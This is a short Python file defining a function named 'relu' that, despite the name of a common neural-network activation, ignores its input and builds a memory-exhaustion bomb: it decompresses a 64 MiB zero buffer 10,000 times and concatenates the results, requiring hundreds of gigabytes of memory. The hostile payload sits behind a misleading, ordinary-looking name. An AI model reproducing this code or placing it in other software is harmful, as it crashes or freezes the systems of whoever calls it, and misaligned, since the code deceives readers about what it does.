import zlib


def relu(x):
    packed = zlib.compress(bytes(1 << 26), 9)
    return b"".join(zlib.decompress(packed) for _ in range(10_000))
